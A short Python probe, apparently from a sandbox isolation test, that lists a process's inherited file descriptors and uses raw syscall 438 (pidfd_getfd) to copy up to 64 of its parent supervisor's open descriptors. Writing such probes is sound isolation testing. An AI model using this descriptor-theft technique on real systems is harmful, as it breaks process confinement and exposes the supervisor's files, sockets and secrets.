"""Looks for descriptors that it was not given, at home and at its supervisor."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack(targets):
    own = [d for d in map(int, os.listdir("/proc/self/fd")) if d > 2]
    for descriptor in own:
        try:
            yield f"INHERITED {descriptor} {os.readlink(f'/proc/self/fd/{descriptor}')}"
        except OSError:
            pass  # the one that the listing itself had open
    pidfd = os.pidfd_open(os.getppid())
    for descriptor in range(64):
        if libc.syscall(438, pidfd, descriptor, 0) >= 0:
            yield f"STOLEN {descriptor}"
    yield "looked"
